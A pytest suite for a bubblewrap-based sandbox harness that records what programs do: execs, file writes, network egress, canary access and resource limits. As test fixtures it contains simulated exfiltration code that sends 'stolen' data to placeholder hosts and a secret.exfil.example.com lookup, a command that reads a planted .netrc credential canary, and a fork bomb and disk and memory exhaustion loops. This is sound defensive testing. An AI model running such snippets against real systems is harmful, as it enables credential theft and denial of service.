"""One assembly of box, network, monitors and limits: what real programs do in it is recorded."""

import asyncio
import os
import signal

import msgspec
import pytest

from zu_core.contracts import BoxSpec, Canary, Envelope, Limits, Mount
from zu_core.errors import ConfigError, Unavailable
from zu_core.events import (
    BoxEnded,
    BoxProbed,
    BoxStarted,
    CanaryPlanted,
    CanaryTouched,
    Connected,
    EgressObserved,
    Executed,
    FileChanged,
    HostEffectObserved,
    MonitorReported,
    OpenedForWrite,
    ProgramEnded,
    ProgramStarted,
    ResourceObserved,
)

from .conftest import CANARY, PYTHON, SPEC, Lab

MIB = 1 << 20

NETWORK = """
import socket, sys
def attempt(family, kind, address, data):
    one = socket.socket(family, kind)
    one.settimeout(5)
    try:
        if kind == socket.SOCK_STREAM:
            one.connect(address)
            one.sendall(data)
            one.recv(10)
        else:
            one.sendto(data, address)
    except OSError as error:
        print(type(error).__name__)
    one.close()
attempt(socket.AF_INET, socket.SOCK_STREAM, ("198.51.100.7", 4444), b"stolen over v4")
attempt(socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8:1::7", 4444), b"stolen over v6")
attempt(socket.AF_INET, socket.SOCK_DGRAM, ("198.51.100.8", 9999), b"stolen by datagram")
try:
    socket.getaddrinfo("secret.exfil.example.com", 443)
except OSError as error:
    print(type(error).__name__)
"""


def limited(**limits) -> BoxSpec:
    return msgspec.structs.replace(SPEC, limits=Limits(**limits))


def with_egress(*hosts: str) -> BoxSpec:
    return msgspec.structs.replace(SPEC, envelope=Envelope(egress=hosts))


class TestRecord:
    async def test_a_life_is_recorded_from_the_box_to_its_end(self, lab):
        async with lab.box() as box:
            await lab.run(box, ["/bin/true"])
        types = [event.type for event in lab.events]
        expected = [BoxStarted, CanaryPlanted, BoxProbed, ProgramStarted, HostEffectObserved]
        assert types[:5] == [one.TYPE for one in expected]
        assert types[5:] == [ProgramEnded.TYPE] + 5 * [MonitorReported.TYPE] + [BoxEnded.TYPE]
        reports = lab.of(MonitorReported)
        assert {one.monitor for one in reports} == {
            "syscalls",
            "resources",
            "egress",
            "canaries",
            "files",
        }
        assert {one.state for one in reports} == {"complete"}
        assert await lab.sink.verify() == len(lab.events)

    async def test_the_box_says_what_it_is_made_of(self, lab):
        async with lab.box():
            pass
        (started,) = lab.of(BoxStarted)
        assert started.backend == "bubblewrap"
        assert started.limits == SPEC.limits
        (planted,) = lab.of(CanaryPlanted)
        assert (planted.name, planted.path) == ("netrc", "/home/tool/.netrc")
        assert planted.secrets == CANARY.secrets
        assert lab.of(BoxEnded) == [BoxEnded()]

    async def test_nothing_of_the_probe_is_a_fact_about_the_target(self, lab):
        async with lab.box() as box:
            await lab.run(box, ["/bin/true"])
        assert [fact.argv for fact in lab.effects(Executed)] == [("/bin/true",)]
        assert lab.effects(Connected) == lab.effects(OpenedForWrite) == []
        assert lab.effects(CanaryTouched) == lab.of(EgressObserved) == []
        assert lab.effects(FileChanged) == []


class TestFacts:
    async def test_execs_with_their_arguments_and_parents(self, lab):
        async with lab.box() as box:
            await lab.shell(box, "/bin/echo one two; /bin/true & wait; /no/such/program")
        first, echo, true, missing = lab.effects(Executed)
        assert first.path == "/bin/sh"
        assert (echo.path, echo.argv) == ("/bin/echo", ("/bin/echo", "one", "two"))
        assert echo.parent_pid == true.parent_pid == first.pid
        assert (missing.path, missing.found) == ("/no/such/program", False)

    async def test_what_ignores_the_proxy_is_denied_and_recorded(self, lab):
        async with lab.box() as box:
            result = await lab.python(box, NETWORK)
        assert "Error" in result.out or "gaierror" in result.out
        facts = lab.of(EgressObserved)
        assert {fact.decision for fact in facts} == {"denied"}
        seen = {(fact.channel, fact.address, fact.port, fact.sample) for fact in facts}
        assert ("tcp", "198.51.100.7", 4444, b"stolen over v4") in seen
        assert ("udp", "198.51.100.8", 9999, b"stolen by datagram") in seen
        if "tcp6" in lab.jails[0].listeners:
            assert ("tcp", "2001:db8:1::7", 4444, b"stolen over v6") in seen
        assert "secret.exfil.example.com" in {one.host for one in facts if one.channel == "dns"}
        connects = {fact.address for fact in lab.effects(Connected)}
        assert {"198.51.100.7:4444", "[2001:db8:1::7]:4444"} <= connects

    async def test_opens_for_writing_and_changes_of_files(self, lab, tmp_path):
        (tmp_path / "old").write_text("old")
        (tmp_path / "gone").write_text("gone")
        (tmp_path / "same").write_text("same")
        spec = msgspec.structs.replace(SPEC, workspace=str(tmp_path))
        async with lab.box(spec) as box:
            await lab.shell(box, "echo new > new; echo more >> old; rm gone; mkdir ~/d")
            await box.record_changes()
            await box.record_changes()
        changes = {(one.path, one.change, one.type) for one in lab.effects(FileChanged)}
        assert changes == {
            ("/workspace/new", "created", "file"),
            ("/workspace/old", "changed", "file"),
            ("/workspace/gone", "deleted", "file"),
            ("/home/tool/d", "created", "directory"),
        }
        assert len(lab.effects(FileChanged)) == len(changes)
        assert [one.path for one in lab.effects(OpenedForWrite)] == [
            "/workspace/new",
            "/workspace/old",
        ]
        samples = {one.path: one.sample for one in lab.effects(FileChanged)}
        assert samples["/workspace/new"] == b"new\n"

    async def test_canaries(self, lab):
        async with lab.box() as box:
            result = await lab.shell(box, "cat ~/.netrc; rm ~/.netrc")
        assert result.out == CANARY.content
        touched = [one.access for one in lab.effects(CanaryTouched)]
        assert touched[:2] == ["opened", "read"]
        assert {"removed", "changed"} & set(touched)
        assert {one.name for one in lab.effects(CanaryTouched)} == {"netrc"}

    async def test_a_canary_of_the_environment(self, lab):
        canary = Canary(name="t", path="", content="tok", secrets=("tok",), variable="TOKEN")
        async with lab.box(BoxSpec(canaries=(canary,))) as box:
            assert (await lab.shell(box, "echo $TOKEN")).out == "tok\n"
        assert lab.of(CanaryPlanted)[0].path == "$TOKEN"

    async def test_facts_stand_under_the_event_that_was_current(self, lab):
        """Three phases; the program waits for a line before each."""
        async with lab.box() as box:
            program = await box.start(
                ["/bin/sh", "-c", "while read n; do echo > $n; cat ~/.netrc; echo done; done"]
            )
            for phase in ("one", "two", "three"):
                box.attribute(phase)
                program.stdin.write(phase.encode() + b"\n")
                while b"done" not in await program.stdout.read(4096):
                    continue
                await box.settle()
            box.attribute(None)
            program.stdin.close()
            await program.wait()
        found = {
            (event.parent_id, event.payload["effect"]["kind"], event.payload["effect"].get("path"))
            for event in lab.events
            if event.type == HostEffectObserved.TYPE
        }
        for phase in ("one", "two", "three"):
            assert (phase, "open-write", f"/workspace/{phase}") in found
            assert (phase, "canary", "/home/tool/.netrc") in found
        writes = [one for one in found if one[1] == "open-write"]
        assert len(writes) == 3

    async def test_two_programs_share_files_and_are_told_apart(self, lab):
        async with lab.box() as box:
            box.attribute("first")
            await lab.shell(box, "echo kept > ~/kept")
            box.attribute("second")
            assert (await lab.shell(box, "cat ~/kept")).out == "kept\n"
        for kind in (BoxProbed, ProgramStarted, ProgramEnded):
            assert len(lab.of(kind)) == 2
        execs = [
            (event.parent_id, event.payload["effect"]["argv"][0])
            for event in lab.events
            if event.payload.get("effect", {}).get("kind") == "exec"
        ]
        assert execs == [("first", "/bin/sh"), ("second", "/bin/sh"), ("second", "cat")]

    async def test_a_connection_of_the_first_program_is_no_trace_of_the_second_probe(self, lab):
        source = (
            "import socket\n"
            "one = socket.create_connection(('198.51.100.7', 4444))\n"
            "one.sendall(b'late')\n"
            "import os; os._exit(0)"
        )
        async with lab.box() as box:
            await lab.python(box, source)
            await lab.run(box, ["/bin/true"])
        assert [one.sample for one in lab.of(EgressObserved)] == [b"late"]

    async def test_only_one_program_at_a_time(self, lab):
        async with lab.box() as box:
            program = await box.start(["/bin/cat"])
            with pytest.raises(ConfigError, match="a program runs"):
                await box.start(["/bin/true"])
            await program.kill()
            assert (await lab.run(box, ["/bin/true"])).exit.code == 0


class TestNetwork:
    async def test_a_denied_request_is_told_why(self, lab):
        source = (
            "import urllib.request, urllib.error\n"
            "try: urllib.request.urlopen('http://not-allowed.example.com/x', timeout=5)\n"
            "except urllib.error.HTTPError as e: print(e.code, e.read().decode())"
        )
        async with lab.box() as box:
            result = await lab.run(box, [PYTHON, "-I", "-c", source])
        assert result.out.startswith("403 ")
        assert "not-allowed.example.com" in result.out
        assert "--egress" in result.out or "egress" in result.out
        (fact,) = lab.of(EgressObserved)
        assert (fact.channel, fact.decision, fact.host) == (
            "http",
            "denied",
            "not-allowed.example.com",
        )

    async def test_a_declared_service_of_the_host_is_reached(self, lab):
        async def serve(reader, writer) -> None:
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 5\r\nconnection: close\r\n\r\nhello")
            await writer.drain()
            writer.close()

        server = await asyncio.start_server(serve, "127.0.0.1", 0)
        port = server.sockets[0].getsockname()[1]
        source = (
            "import socket\n"
            "proxy = socket.create_connection(('127.0.0.1', 3128))\n"
            f"head = b'GET http://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n'\n"
            "proxy.sendall(head + b'Connection: close\\r\\n\\r\\n')\n"
            "print(proxy.makefile('rb').read().decode()[-5:])"
        )
        async with server, lab.box(with_egress(f"127.0.0.1:{port}")) as box:
            result = await lab.run(box, [PYTHON, "-I", "-c", source])
        assert result.out == "hello\n", result.err
        (fact,) = [one for one in lab.of(EgressObserved) if one.channel == "http"]
        assert (fact.decision, fact.rule) == ("allowed", f"127.0.0.1:{port}")
        assert lab.failed_checks() == set()

    async def test_the_environment_names_the_proxy_and_nothing_of_the_harness(self, lab):
        spec = msgspec.structs.replace(SPEC, environment=(("EXTRA", "given"),))
        async with lab.box(spec) as box:
            lines = (await lab.run(box, ["/usr/bin/env"])).out.splitlines()
        found = dict(line.split("=", 1) for line in lines)
        assert found["HTTP_PROXY"] == found["https_proxy"] == "http://127.0.0.1:3128"
        assert (found["HOME"], found["EXTRA"]) == ("/home/tool", "given")
        assert not {"PYTEST_CURRENT_TEST", "SUDO_USER", "SSH_CONNECTION"} & found.keys()


class TestLimits:
    async def test_the_wall_clock(self, lab):
        async with lab.box(limited(wall_seconds=0.5)) as box:
            result = await lab.run(box, ["/bin/sleep", "60"])
        assert (result.exit.killed_for, result.exit.code) == ("wall_seconds", 137)
        (observed,) = lab.of(ResourceObserved)
        assert (observed.resource, observed.limit, observed.action) == (
            "wall_seconds",
            0.5,
            "killed",
        )
        assert lab.of(ProgramEnded)[0].killed_for == "wall_seconds"

    async def test_the_memory_of_many_processes(self, lab):
        script = (
            "import os, time\n"
            "for _ in range(4):\n"
            "    if os.fork() == 0:\n"
            "        held = bytearray(40 << 20)\n"
            "        for at in range(0, len(held), 4096): held[at] = 1\n"
            "        time.sleep(60)\n"
            "time.sleep(60)"
        )
        async with lab.box(limited(memory_bytes=100 * MIB, data_bytes=64 * MIB)) as box:
            result = await lab.python(box, script)
        assert result.exit.killed_for == "memory_bytes"
        assert result.exit.usage.peak_memory_bytes > 100 * MIB
        assert lab.of(ResourceObserved)[0].resource == "memory_bytes"

    async def test_the_memory_of_one_process(self, lab):
        async with lab.box(limited(data_bytes=64 * MIB)) as box:
            result = await lab.python(box, "b'x' * (100 << 20)")
        assert "MemoryError" in result.err
        assert result.exit.code == 1

    async def test_a_fork_bomb(self, lab):
        bomb = "import os, time\nwhile True:\n  try: os.fork()\n  except OSError: time.sleep(0.01)"
        async with lab.box(limited(processes=32, wall_seconds=1.5, memory_bytes=4096 * MIB)) as box:
            result = await lab.python(box, bomb)
        assert result.exit.killed_for == "wall_seconds"
        assert 16 < result.exit.usage.peak_processes <= 32 + 3

    async def test_a_full_disk(self, lab):
        fill = "for n in $(seq 40); do head -c 1000000 /dev/zero > /tmp/$n || exit 7; done"
        async with lab.box(limited(disk_bytes=4 * MIB)) as box:
            result = await lab.shell(box, fill)
            assert result.exit.code == 7
            assert "No space left" in result.err
            await box.record_changes()
        assert len(lab.effects(FileChanged)) <= 6

    async def test_many_files(self, lab):
        fill = "cd; for n in $(seq 2000); do : > $n || exit 7; done"
        async with lab.box(limited(disk_inodes=200)) as box:
            assert (await lab.shell(box, fill)).exit.code != 0
        assert len(lab.effects(FileChanged)) < 200

    async def test_a_flood_of_output_is_held_back_by_its_reader(self, lab):
        async with lab.box(limited(wall_seconds=1.0)) as box:
            program = await box.start(["/usr/bin/yes"])
            assert (await program.wait()).killed_for == "wall_seconds"
            held = await program.stdout.read(1 << 26)
        assert len(held) <= 4 * MIB

    async def test_a_flood_of_calls_does_not_stop_the_end(self, lab):
        flood = "while true; do : > /tmp/x; done"
        async with lab.box(limited(wall_seconds=1.0)) as box:
            program = await box.start(["/bin/sh", "-c", flood])
            await asyncio.wait_for(box.settle(), 10)
            assert (await program.wait()).killed_for == "wall_seconds"
        assert len(lab.effects(OpenedForWrite)) > 100


class TestEnds:
    async def test_usage_is_told(self, lab):
        spin = "x = 0\nwhile x < 3_000_000: x += 1"
        async with lab.box() as box:
            usage = (await lab.python(box, spin)).exit.usage
        assert usage.cpu_seconds > 0.05
        assert usage.wall_seconds > 0.05
        assert usage.peak_processes >= 1
        assert usage.peak_memory_bytes > MIB

    @pytest.mark.parametrize("script", ["exit 3", "kill -TERM $$", "kill -KILL $$"])
    async def test_codes_are_those_of_a_shell(self, lab, script):
        async with lab.box() as box:
            code = (await lab.shell(box, script)).exit.code
        assert code == {"exit 3": 3, "kill -TERM $$": 143, "kill -KILL $$": 137}[script]

    async def test_a_daemon_does_not_outlive_its_program(self, lab):
        daemon = (
            "import os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        for fd in range(3): os.close(fd)\n"
            "        time.sleep(600)\n"
            "    os._exit(0)\n"
            "os.wait()"
        )
        async with lab.box() as box:
            await lab.python(box, daemon)
            pids = _pids_of_the_box(lab)
            assert pids == {lab.jails[0].holder_pid}
            assert (await lab.run(box, ["/bin/true"])).exit.code == 0

    async def test_kill_ends_all_of_it(self, lab):
        async with lab.box() as box:
            program = await box.start(["/bin/sh", "-c", "sleep 600 & setsid sleep 600 & wait"])
            await program.kill()
            assert (await program.wait()).code == 137
            await program.kill()
            assert _pids_of_the_box(lab) == {lab.jails[0].holder_pid}
        assert lab.of(ProgramEnded)[0].killed_for == ""

    async def test_a_box_that_is_left_while_its_program_runs(self, lab):
        async with lab.box() as box:
            await box.start(["/bin/sleep", "600"])
            holder = lab.jails[0].holder_pid
        assert not os.path.exists(f"/proc/{holder}")
        assert lab.of(ProgramEnded)[0].code == 137
        assert lab.events[-1].type == BoxEnded.TYPE

    async def test_a_box_in_which_nothing_is_started(self, lab):
        async with lab.box():
            holder = lab.jails[0].holder_pid
        assert not os.path.exists(f"/proc/{holder}")
        assert lab.of(ProgramStarted) == lab.of(ProgramEnded) == []
        assert {one.state for one in lab.of(MonitorReported)} == {"complete"}

    async def test_an_error_in_the_body_ends_the_box(self, lab):
        with pytest.raises(ZeroDivisionError):
            await _fail_inside(lab)
        assert not os.path.exists(f"/proc/{lab.jails[0].holder_pid}")
        assert lab.events[-1].type == BoxEnded.TYPE

    async def test_no_descriptor_or_thread_is_left(self, lab):
        async def life() -> None:
            async with lab.box() as box:
                await lab.run(box, ["/bin/true"])

        await life()
        before = await _quiet_descriptors()
        for _ in range(3):
            await life()
        assert await _quiet_descriptors() == before

    async def test_the_helper_is_killed(self, lab):
        async def run() -> None:
            async with lab.box() as box:
                program = await box.start(["/bin/sleep", "600"])
                os.kill(lab.spawner.pid, signal.SIGKILL)
                with pytest.raises(Unavailable, match="the box has ended"):
                    await program.wait()
                with pytest.raises(Unavailable):
                    await box.start(["/bin/true"])

        with pytest.raises(Unavailable, match="the box has ended"):
            await asyncio.wait_for(run(), 20)
        assert lab.of(ProgramEnded) == []
        assert "the box has ended" in lab.of(BoxEnded)[0].reason
        with pytest.raises(Unavailable):
            async with lab.box():
                pass

    async def test_the_holder_is_killed_and_nobody_waits(self, lab):
        async def run() -> None:
            async with lab.box() as box:
                await box.start(["/bin/sleep", "600"])
                os.kill(lab.jails[0].holder_pid, signal.SIGKILL)

        with pytest.raises(Unavailable):
            await asyncio.wait_for(run(), 20)


class TestRequests:
    @pytest.mark.parametrize("argv", [[], ["sh"], ["./sh"]])
    async def test_a_program_needs_an_absolute_path(self, lab, argv):
        async with lab.box() as box:
            with pytest.raises(ConfigError, match="absolute path"):
                await box.start(argv)

    async def test_nul_in_an_argument(self, lab):
        async with lab.box() as box:
            with pytest.raises(ConfigError, match="NUL"):
                await box.start(["/bin/echo", "a\0b"])

    @pytest.mark.parametrize("path", ["/no/such/program", "/etc/passwd", "/workspace"])
    async def test_a_program_that_can_not_be_executed(self, lab, path):
        async with lab.box() as box:
            with pytest.raises(ConfigError, match="can't be executed"):
                await box.start([path])
            assert (await lab.run(box, ["/bin/true"])).exit.code == 0
        assert lab.of(ProgramEnded)[0].code != 0
        assert lab.of(ProgramEnded)[1].code == 0

    async def test_arguments_arrive_as_they_are(self, lab):
        given = ["", " ", "ü\n", "-x", "a=b", "\udcff"]
        async with lab.box() as box:
            source = "import os, sys; print([*map(os.fsencode, sys.argv[1:])])"
            result = await lab.python(box, source, *given)
        assert result.out.strip() == repr([*map(os.fsencode, given)])
        assert lab.of(ProgramStarted)[0].argv[-1] == "\\xff"

    async def test_a_mount_that_is_not_there(self, lab):
        spec = BoxSpec(mounts=(Mount(path="/no/such", reason="test"),))
        with pytest.raises(ConfigError, match="/no/such"):
            async with lab.box(spec):
                pass

    async def test_without_a_helper_of_its_own(self):
        lab = Lab(None)
        async with lab.box() as box:
            assert (await lab.run(box, ["/bin/echo", "x"])).out == "x\n"


async def _fail_inside(lab: Lab) -> None:
    async with lab.box() as box:
        await box.start(["/bin/sleep", "600"])
        raise ZeroDivisionError


def _pids_of_the_box(lab: Lab) -> set[int]:
    """Pids of the host in the pid namespace of the first box, or below it."""
    holder = lab.jails[0].holder_pid
    below = {holder}
    parents = {}
    for name in os.listdir("/proc"):
        if name.isdecimal():
            try:
                with open(f"/proc/{name}/stat") as file:
                    state, parent = file.read().rpartition(")")[2].split()[:2]
            except OSError:
                continue
            if state != "Z":
                parents[int(name)] = int(parent)
    while more := {pid for pid, parent in parents.items() if parent in below} - below:
        below |= more
    return below


async def _quiet_descriptors() -> int:
    """Number of open descriptors once threads that close some have ended."""
    import threading

    for thread in threading.enumerate():
        if thread.name == "zu-canaries":
            await asyncio.to_thread(thread.join)
    return len(os.listdir("/proc/self/fd"))
